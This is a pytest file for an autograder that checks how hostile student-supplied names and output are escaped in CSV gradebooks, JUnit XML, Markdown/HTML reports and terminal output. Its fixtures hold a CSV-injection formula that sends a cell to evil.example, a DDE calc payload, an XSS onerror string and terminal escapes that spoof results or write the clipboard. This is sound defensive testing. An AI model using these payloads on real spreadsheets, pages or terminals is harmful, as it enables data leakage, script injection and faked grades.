"""Hostile names (issue 27): nothing a student controls reaches another student's row, a formula, a
terminal or the markup of a page. Fast tests of the parts, without grading; the end-to-end batch is
``test_hostile_batch.py`` and the signing key ``test_hostile_keys.py``.

Each test names what today's grader did before issue 27 (it fails there).
"""
from __future__ import annotations

import csv
import io
import json
import re
import struct
import xml.etree.ElementTree as ET
import zipfile
from html.parser import HTMLParser
from pathlib import Path

from conftest import SOLUTIONS
from test_unit_platforms import _moodle_import, _row, _worksheet, _zip

from grader import safetext
from grader.batch import filling, gradebook, layouts, summary as summaries, worksheets
from grader.batch.gradebook import Row
from grader.batch.roster import Person
from grader.i18n import Bilingual, T, grader_catalog

words = lambda text: grader_catalog().render(text, "en")  # noqa: E731
SOLUTION = (SOLUTIONS / "ex02_where.py").read_text(encoding="utf-8")
#: what a student may write where a name goes: a formula, markup, a terminal's control sequences
FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"Click")'
MARKUP = '<img src=x onerror=alert(1)> [click](http://evil.example) a|b'
CONTROLS = "\x1b[2K\x1b[1A\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07\x0c\x01"


def _ids(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))]


# ------------------------------------------------------------------ 1: the platform's part of a name
def test_moodle_reads_the_first_assignsubmission_and_a_file_name_claims_no_one(tmp_path):
    """Moodle's prefix is ``clean_filename(str_replace('_', ' ', fullname) . '_' . uniqueid)``, and a flat
    file is ``clean_filename(prefix . '_' . subtype . '_' . type . '_' . filename)`` (moodle/moodle
    mod/assign/classes/downloader.php: ``downloader::get_student_prefix`` and
    ``load_submissionplugin_filelist``, called by ``download_zip``): the name part holds no ``_``, so the
    first ``_<id>_assignsubmission_`` is Moodle's and whatever follows is the student's file name.
    (Fixed for this case by issue 24 already; before it, bde05ab^, Bob's file made a row for 2002.)"""
    trick = "Zed Bob_1001_assignsubmission_file_x_2002_assignsubmission_file_ex02_where.py"
    for members, jane in (({trick: SOLUTION, "Zed Bob_1001_assignsubmission_file_ex02_where.py": SOLUTION,
                            "Jane Roe_2002_assignsubmission_file_ex02_where.py": SOLUTION}, True),
                          ({trick: SOLUTION}, False)):  # a friend who never submitted gets nothing either
        klass = layouts.read_class(_zip(tmp_path / f"m{jane}.zip", members))
        bob = next(s for s in klass.students if s.name == "Zed Bob_1001")
        assert {u.file: u.student for u in klass.files}[trick] == bob.key
        ids = _ids(gradebook.moodle_csv([_row(s, 10) for s in klass.students], 80, "now"), "Identifier")
        assert sorted(ids) == (["Participant 1001", "Participant 2002"] if jane else ["Participant 1001"])


def test_moodle_two_folders_claiming_one_participant_id_are_both_refused_and_named(tmp_path):
    """Moodle gives each participant one prefix (``load_student_filelist`` keeps ``$this->prefixes``), so
    two names with one id are no download Moodle made: neither may give its grade to that id. Before
    issue 27 both were graded and moodle.csv held two rows for Participant 2002."""
    klass = layouts.read_class(_zip(tmp_path / "m.zip", {
        "Jane Roe_2002_assignsubmission_file/ex02_where.py": SOLUTION,
        "Bob Zed_2002_assignsubmission_file/ex02_where.py": SOLUTION,
        "Ann Lee_3003_assignsubmission_file/ex02_where.py": SOLUTION}))
    students = {s.name: s for s in klass.students}
    assert students["Jane Roe_2002"].status == students["Bob Zed_2002"].status == "id_clash"
    assert "Bob Zed_2002_assignsubmission_*" in words(students["Jane Roe_2002"].problem)
    assert "2002" in words(students["Bob Zed_2002"].problem) and students["Ann Lee_3003"].problem is None
    rows = [gradebook.row_from_failure(s.name, s.status or "completed", "").of(s) for s in klass.students]
    assert _ids(gradebook.moodle_csv(rows, 80, "now"), "Identifier") == ["Participant 3003"]
    graded = list(csv.DictReader(io.StringIO(gradebook.grades_csv(rows, {"ex02": 10}))))
    assert sorted(r["id"] for r in graded[1:]) == ["", "", "3003"]  # one row per platform id, always
    text = summaries.render_markdown(summaries.summarize(rows, chapter="ch4", seed=1, max_score=10), words)
    assert "**Bob Zed_2002**: id_clash" in text and "**Jane Roe_2002**: id_clash" in text


def test_a_canvas_name_that_reads_as_two_users_is_nobodys(tmp_path):
    """Canvas names a file ``<name>[_LATE]_<user id>_<attachment id>_<file>`` (canvas-lms
    lib/content_zipper.rb: ``ContentZipper#get_filename`` and ``#add_upload_submission``), the name
    being ``sanitize_user_name`` (lower case; ``_<digits>_`` inside it joined) then
    ``sanitize_file_name`` (word characters only), and reads it back by its first all-digit parts
    (app/models/assignment.rb: ``Assignment#infer_comment_context_from_filename``). A student whose
    Canvas name ends in digits (``x_2002``) makes ``x_2002_1001_556_ex02_where.py``, which reads as user
    2002's too. Before issue 27 it was read so: a second row for user 2002 in canvas.csv."""
    klass = layouts.read_class(_zip(tmp_path / "c.zip", {
        "roejane_2002_555_ex02_where.py": SOLUTION, "x_2002_1001_556_ex02_where.py": SOLUTION,
        "x_2002_1001_557_homework.zip": b"PK", "o_brien_3003_558_ex02_where.py": SOLUTION}))
    students = {s.name: s for s in klass.students}
    assert students["roejane_2002"].files == {"ex02_where.py": "roejane_2002_555_ex02_where.py"}
    assert students["o_brien_3003"].people == [Person("o_brien", "3003")]  # a Canvas name may hold "_"
    unsure = students["x_2002_1001"]
    assert unsure.status == "not_a_submission" and not unsure.files and "2002, 1001" in words(unsure.problem)
    assert {u.file: u.use for u in klass.files}["x_2002_1001_557_homework.zip"] == "ambiguous"
    ids = _ids(gradebook.canvas_csv([_row(s, 10) for s in klass.students], 80, "Chapter 4"), "ID")
    assert sorted(ids[1:]) == ["2002", "3003"]


def test_canvas_is_anonymous_only_when_every_canvas_name_is(tmp_path):
    """``get_filename``: with anonymous grading every file is ``[LATE_]anon_<anonymous id>_...`` and no
    one's name is in it. A student whose Canvas name is ``anon_x`` made the whole class anonymous before
    issue 27 (no canvas.csv at all)."""
    klass = layouts.read_class(_zip(tmp_path / "c.zip", {
        "doejane_1001_555_ex02_where.py": SOLUTION, "anon_x_1002_556_ex02_where.py": SOLUTION}))
    assert klass.kind == "people"
    assert sorted((p.name, p.id) for s in klass.students for p in s.people) == [("anon_x", "1002"),
                                                                                 ("doejane", "1001")]
    anonymous = layouts.read_class(_zip(tmp_path / "a.zip", {
        "anon_Xy3kP_900_anon_q8RtZ_901_ex02_where.py": SOLUTION, "anon_q8RtZ_902_ex02_where.py": SOLUTION}))
    assert anonymous.kind == "anonymous"
    files = {s.anonymous: sorted(s.files) for s in anonymous.students}
    assert files == {"Xy3kP": ["anon_q8RtZ_901_ex02_where.py"], "q8RtZ": ["ex02_where.py"]}


METADATA = """\
submission_1:
  :submitters:
  - :name: Ann Lee
    :sid: '3031'
    :email: ann@example.edu
submission_2:
  :submitters:
  - :name: Bob Zed
    :sid: '3031'
    :email: bob@example.edu
submission_3:
  :submitters:
  - :name: Ann Lee
    :sid: '4040'
    :email: cy@example.edu
"""


def test_gradescope_one_sid_one_row_and_a_roster_row_is_never_taken_by_a_name(tmp_path):
    """A submission's submitters are the students' own Gradescope accounts (name, e-mail, SID: the
    autograder docs' submission_metadata "users", gradescope-autograders.readthedocs.io/en/latest/
    submission_metadata/). Two submissions claiming SID 3031 are both refused; a roster row whose SID
    differs is never filled because a submitter took that student's name. Before issue 27 grades.csv held
    two rows for 3031, and Ann's roster row got the grade of a stranger calling himself Ann Lee."""
    download = _zip(tmp_path / "e.zip", {"submission_metadata.yml": METADATA,
                                         **{f"submission_{i}/ex02_where.py": SOLUTION for i in (1, 2, 3)}})
    klass = layouts.read_class(download)
    status = {s.name: s.status for s in klass.students}
    assert status == {"Ann Lee_1": "id_clash", "Bob Zed_2": "id_clash", "Ann Lee_3": None}
    rows = [_row(s, 0 if s.status else 70, s.status or "completed") for s in klass.students]
    graded = list(csv.DictReader(io.StringIO(gradebook.grades_csv(rows, {"ex02": 80}))))
    assert "3031" not in [r["id"] for r in graded]
    roster = _worksheet(tmp_path / "roster.csv", ["Full Name", "Email", "SID", "Role"],
                        [["Ann Lee", "ann@example.edu", "3031", "Student"],
                         ["Dee Kay", "dk@example.edu", "5", "Student"]])
    sheet = worksheets.read(roster, "gradescope", chapter_names=("Chapter 4",))
    done = filling.fill(sheet, list(zip(klass.students, rows)), 80, words)
    filled = list(csv.reader(io.StringIO(done.text.lstrip("\ufeff"))))
    assert [r[-1] for r in filled[1:]] == ["", ""] and done.filled == 0
    assert [name for name, _ in done.missing] == ["Ann Lee_3"]  # the stranger: graded, in no roster row


# ------------------------------------------------------------------ 6: names equal once cleaned
def test_names_equal_once_cleaned_keep_their_names_and_rows(tmp_path):
    """``a:b_1003`` and ``a*b_1003`` are one folder's name once made safe; before issue 27 both were
    one results folder, one row of the batch, and grades.csv said the same name twice. A long Canvas
    name cut to the folder's length is the same."""
    folder = tmp_path / "class"
    for name in ("a:b_1003", "a*b_1003", "A*B_1003"):
        (folder / name).mkdir(parents=True)
        (folder / name / "ex02_where.py").write_text(SOLUTION, encoding="utf-8")
    klass = layouts.read_class(folder)
    assert sorted(s.name for s in klass.students) == ["A*B_1003", "a*b_1003", "a:b_1003"]
    assert len({s.key.casefold() for s in klass.students}) == 3 and all(s.problem is None for s in klass.students)
    long = "x" * 90
    canvas = layouts.read_class(_zip(tmp_path / "c.zip", {f"{long}_1001_5_ex02_where.py": SOLUTION,
                                                          f"{long}_1002_6_ex02_where.py": SOLUTION}))
    rows = [_row(s, 10 + i) for i, s in enumerate(canvas.students)]
    assert len({s.key for s in canvas.students}) == 2 and all(s.problem is None for s in canvas.students)
    assert sorted(zip(_ids(gradebook.canvas_csv(rows, 80, "Ch 4"), "ID")[1:],
                      _ids(gradebook.canvas_csv(rows, 80, "Ch 4"), "Ch 4")[1:])) == [("1001", "10"), ("1002", "11")]


# ------------------------------------------------------------------ 5: names no file system holds
def _flag_utf8(data: bytes) -> bytes:
    """The zip with every member's name flagged UTF-8 (bit 11), in its central and local headers."""
    data = bytearray(data)
    for signature, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = 0
        while (found := data.find(signature, start)) >= 0:
            flags, = struct.unpack_from("<H", data, found + at)
            struct.pack_into("<H", data, found + at, flags | 0x800)
            start = found + 4
    return bytes(data)


def _download_with_bad_names(path: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("doejane_1001_5_ex02_where.py", SOLUTION)
        archive.writestr("doejane_1001_6_" + "x" * 300 + ".py", "print('a name too long')\n")
        archive.writestr("doejane_1001_7_badNAME_.py", "print('no UTF-8')\n")
    path.write_bytes(_flag_utf8(buffer.getvalue().replace(b"badNAME_", b"bad\xff\xfeme_")))
    return path


def test_a_file_no_file_system_can_hold_is_listed_and_the_rest_is_graded(tmp_path):
    """Before issue 27 the 300-byte name was given to the grading ("File name too long": every exercise
    of that student scored 0), and a member name that is not the UTF-8 its zip says made Python's zipfile
    refuse the whole download."""
    klass = layouts.read_class(_download_with_bad_names(tmp_path / "c.zip"))
    jane, = klass.students
    assert jane.files == {"ex02_where.py": "doejane_1001_5_ex02_where.py"} and jane.problem is None
    uses = {u.file: u.use for u in klass.files}
    assert sorted(uses.values()) == ["bad_name", "bad_name", "graded"]
    notes = [words(n) for n in jane.notes]
    assert any("303 bytes, longer than a file system holds (255)" in n for n in notes)
    assert any("bad\\xff\\xfeme_.py" in n and "no UTF-8" in n for n in notes)
    download = gradebook.download_csv(klass.files)  # written and read back: the bytes shown as \xNN
    assert "doejane_1001_7_bad\\xff\\xfeme_.py" in _ids(download, "file")


def test_a_students_own_zip_with_such_names_is_graded_all_the_same(tmp_path):
    from grader.chapter import load_chapter
    from grader.submission import load

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path in sorted(SOLUTIONS.glob("*.py")):
            archive.writestr(f"hw/{path.name}", path.read_text(encoding="utf-8"))
        archive.writestr("hw/" + "y" * 300 + ".py", "x = 1\n")
        archive.writestr("hw/badNAME_.py", "x = 2\n")
    homework = tmp_path / "homework.zip"
    homework.write_bytes(_flag_utf8(buffer.getvalue().replace(b"badNAME_", b"bad\xff\xfeme_")))
    sub = load(homework, load_chapter("ch4"), tmp_path / "scratch")
    assert sorted(sub.files) == sorted(p.name for p in SOLUTIONS.glob("*.py")) and not sub.problems
    assert sorted(sub.unheld.values()) == ["not_utf8", "too_long"]
    findings = [words(f["message"]) for f in sub.integrity_findings(load_chapter("ch4")) if f["code"] == "name"]
    assert len(findings) == 2 and all("was not graded" in f for f in findings)


# ------------------------------------------------------------------ 3: spreadsheets
def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_every_csv_the_batch_writes_is_safe_in_a_spreadsheet():
    """OWASP's CSV Injection guidance (and CWE-1236): a cell beginning with ``=``, ``+``, ``-``, ``@``,
    a tab or a carriage return gets a leading ``'``; the CSV writer quotes. Numbers stay numbers. Before
    issue 27 every one of these cells went out as the student wrote it."""
    people = [Person(FORMULA, "-123", "@SUM(1+1)@x.org"), Person("+cmd|' /C calc'!A0", "1002", "-x@y.org")]
    row = Row("-rf", "crash", detail="=1+1 " + CONTROLS, scores={"ex01": -2.5}, people=people,
              submitted_at="\t=2+2", report={"title": "=evil", "exercises": []})
    anonymous = Row("anon_x", "completed", scores={"ex01": 3}, people=[Person("anon_=1+1")])
    uses = [layouts.FileUse("=cmd.py", "-rf", "not_graded"), layouts.FileUse("@x/\x1b[2K.py", "-rf", "graded")]
    texts = {"grades": gradebook.grades_csv([row], {"ex01": 10}), "canvas": gradebook.canvas_csv([row], 10, "+A"),
             "moodle": gradebook.moodle_csv([row], 10, "now"),
             "anonymous": gradebook.canvas_anonymous_csv([anonymous], 10), "download": gradebook.download_csv(uses)}
    for name, text in texts.items():
        for cells in _cells(text):
            assert not any(safetext.formula(cell) for cell in cells), (name, cells)
            assert not any(re.search(r"[\x00-\x08\x0b-\x1f\x7f]", cell) for cell in cells), (name, cells)
    grades = _cells(texts["grades"])[2]
    assert grades[:3] == ["'-rf", "'" + FORMULA, "-123"] and grades[6:8] == ["-2.5", "-2.5"]  # numbers, not text
    assert _cells(texts["canvas"])[2] == ["'" + FORMULA, "-123", "", "", "", "-2.5"]
    assert _cells(texts["moodle"])[1][1:3] == ["'" + FORMULA, "'@SUM(1+1)@x.org"]
    assert _cells(texts["anonymous"])[1][0] == "'=1+1"
    assert [c[0] for c in _cells(texts["download"])[1:]] == ["'=cmd.py", "'@x/\\x1b[2K.py"]


def test_a_filled_gradebook_neutralises_what_it_writes_and_keeps_the_rest(tmp_path):
    """The rows the grader writes again have no formula left (the Identifier, by which Moodle's importer
    finds the row, stays exact); a row left alone is the platform's byte for byte, and the summary says
    it holds one. Before issue 27 the filled row carried the student's formula as it was."""
    header = ["Identifier", "Full name", "Email address", "Grade", "Maximum Grade", "Last modified (grade)",
              "Feedback comments"]
    path = _worksheet(tmp_path / "Grades.csv", header, [["Participant 1001", FORMULA, "@SUM(1+1)", "", "80", "-", ""],
                                                       ["Participant 1002", "+cmd", "-x@y.org", "", "80", "-", ""]])
    kept = path.read_bytes().split(b"\r\n")[2]
    klass = layouts.read_class(_zip(tmp_path / "m.zip", {"Hyper Link_1001_assignsubmission_file/a.py": "x"}))
    klass.students[0].people = [Person("Participant", "1001")]  # an anonymous worksheet names no one
    sheet = worksheets.read(path, "moodle")
    done = filling.fill(sheet, [(s, _row(s, 40)) for s in klass.students], 80, words)
    rows = _cells(done.text)
    assert rows[1][:4] == ["Participant 1001", "'" + FORMULA, "'@SUM(1+1)", "40"]
    assert _moodle_import(done.text) == {"1001": "40"}
    assert done.text.encode("utf-8").split(b"\r\n")[2] == kept
    assert any("Participant 1002" in words(n) and "formula" in words(n) for n in done.notes)


# ------------------------------------------------------------------ 4: XML, Markdown, HTML, terminal
def _report(message: str, output: str, error: str = ""):
    from grader.results import CheckResult, ExerciseResult, Report

    check = CheckResult(id="piecewise.values", title=Bilingual("values", "数值"), category="numeric", points=0,
                        max_points=10, status="failed",
                        message=T("numeric.shape", what=message, expected="(4,)", got="(3,)"),
                        hint=Bilingual("Use jnp.where.", "使用 jnp.where。"), measured={"got": message})
    exercise = ExerciseResult(id="ex02_where", title=Bilingual("where", "where"), section="1", checks=[check],
                              status="failed" if not error else "error", output=output, error=error or None,
                              duration_s=1.0)
    return Report(chapter="ch4", chapter_title=Bilingual("Chapter 4", "第 4 章"), seed=1, started_at="x",
                  duration_s=1.0, submission={"path": "sub", "kind": "folder", "sha256": "0", "files": []},
                  environment={"backend": "cpu"}, exercises=[exercise], sandbox={"kind": "bwrap"})


def test_junit_xml_parses_whatever_a_student_printed_or_named():
    """XML 1.0's Char production forbids most C0 controls, lone surrogates and U+FFFE/U+FFFF: one of
    them made the class's junit.xml unreadable before issue 27."""
    report = {"exercises": [{"id": "ex02_where", "status": "failed", "duration_s": 1, "checks": [
        {"id": "c", "status": "failed", "message": "got \x00\x1b[2K\ufffe\udcff", "hint": "h\x0c"}]}]}
    rows = [Row("bad\x1bname\x0c\x01", "completed", report=report), Row("\x00<x>&", "crash", "\x1b]0;t\x07")]
    root = ET.fromstring(gradebook.junit_xml(rows, "ch4"))
    suites = root.findall("testsuite")
    assert [s.get("name") for s in suites] == ["bad\\x1bname\\x0c\\x01", "\\x00<x>&"]
    assert suites[0].find("testcase/failure").get("message") == "got \\x00\\x1b[2K\\ufffe\\xff"


class _Tags(HTMLParser):
    def __init__(self, text: str):
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def _rendered(markdown: str) -> _Tags:
    """The Markdown as a CommonMark renderer with GitHub's tables makes it HTML (raw HTML passed through)."""
    from markdown_it import MarkdownIt

    return _Tags(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))


def test_summary_and_report_pages_carry_no_students_markup():
    """Raw HTML, links and table pipes in a student's name or text: escaped in Markdown (read with a
    CommonMark renderer and an HTML parser) and in HTML; before issue 27 summary.md and report.md gave
    a student's <img onerror=...> and links to the page as they were."""
    rows = [Row(MARKUP + CONTROLS, "crash", detail=MARKUP, scores={"ex01": 1}),
            Row("plain", "completed", report={"exercises": []}, scores={"ex01": 2})]
    summary = summaries.summarize(rows, chapter="ch4", seed=1, max_score=10, notes=[T("batch.summary.late", n=1,
                                                                                    names=MARKUP)])
    page = _rendered(summaries.render_markdown(summary, words))
    assert not {"img", "a", "script"} & set(page.tags)
    table = summaries.render_markdown(summary, words).split("## Students")[1]
    assert all(line.count("|") - line.count("\\|") == 5 for line in table.splitlines() if line.startswith("| "))
    html = _Tags(summaries.render_html(summary, words, "en"))
    assert not {"img", "script"} & set(html.tags) and html.tags.count("a") == 1  # "plain"'s report: the grader's
    assert "<img src=x onerror=alert(1)>" in "".join(html.text) and "\x1b" not in "".join(html.text)
    assert "\\x1b[2K" in "".join(html.text)
    from grader.chapter import load_chapter
    from grader.report.markdown import render_markdown
    from grader.report.page import render_html

    catalog = load_chapter("ch4").catalog
    report = _report(MARKUP, MARKUP + "\n```\n</details><script>x</script>" + CONTROLS)
    text = render_markdown(report, catalog, "en")
    assert not {"img", "a", "script"} & set(_rendered(text).tags) and "\x1b" not in text
    html = render_html(report, catalog, "en")
    assert not {"img", "script"} & set(_Tags(html).tags) and "\x1b" not in html


def test_the_terminal_shows_a_students_control_sequences_and_never_sends_them(capsys):
    """Before issue 27 a student's ``\\x1b[2K\\x1b[1A`` erased the real 0/10 line and printed its own
    "10/10 passed"; OSC 0 set the window's title and OSC 52 wrote the clipboard."""
    from grader.chapter import load_chapter
    from grader.report.terminal import render_terminal

    catalog = load_chapter("ch4").catalog
    report = _report("x" + CONTROLS, "\x1b[2K\x1b[1A✓ ex02_where  10/10  passed\r" + CONTROLS,
                     error="ValueError: \x1b]0;pwned\x07\x9b2K")
    plain = render_terminal(report, catalog, "en", color=False, width=200)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", plain)
    assert "\\x1b[2K\\x1b[1A✓ ex02_where  10/10  passed\\r" in plain and "\\x1b]0;pwned\\x07\\x9b2K" in plain
    coloured = render_terminal(report, catalog, "en", color=True, width=200)
    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured) == plain  # the grader's own colours, and nothing else
    from grader.cli.batch import _Display

    _Display(words, None).row(Row("evil" + CONTROLS, "completed", report={"max_score": 10}), 1, 1)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", capsys.readouterr().err)


def test_one_escaping_function_per_format():
    assert safetext.terminal("a\x1b[2K\tb\nc\x9b") == "a\\x1b[2K\tb\nc\\x9b"
    assert safetext.xml("\x00\ud800\ufffe\u202e") == "\\x00\\ud800\\ufffe\\u202e"
    assert safetext.markdown("<b>x</b> [a](b) | `c` C:\\Users \\|") == \
        "&lt;b>x&lt;/b> [a\\](b) \\| \\`c\\` C:\\Users \\\\\\|"
    assert safetext.html('<a href="x">\x1b') == "&lt;a href=&quot;x&quot;&gt;\\x1b"
    assert [safetext.csv_cell(t) for t in ("=1", "-2.5", "+3", "-x", "@a", "\tx", "a=b", "")] == \
        ["'=1", "-2.5", "+3", "'-x", "'@a", "'\tx", "a=b", ""]
    assert safetext.markdown_span("a`b") == "``a`b``"
    document = json.dumps({"a": "x\x1b[2K\x9b\u202e\x7f\n", "b": [1]}, ensure_ascii=False, indent=2)
    assert json.loads(safetext.json(document)) == json.loads(document)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", safetext.json(document))


def test_the_graders_own_log_shows_a_students_controls_as_text():
    """``--verbose`` logs quote a student's text (a file name, an error): the terminal must not act on it."""
    import subprocess
    import sys

    code = ("import logging; from grader.cli.app import setup_logging; setup_logging(True); "
            "logging.getLogger('grader').info('file %s', 'ex02\\x1b[2K\\x1b[1A\\x1b]0;pwned\\x07.py')")
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    assert "\x1b" not in run.stderr and "\x07" not in run.stderr
    assert "grade: file ex02\\x1b[2K\\x1b[1A\\x1b]0;pwned\\x07.py" in run.stderr, run.stderr
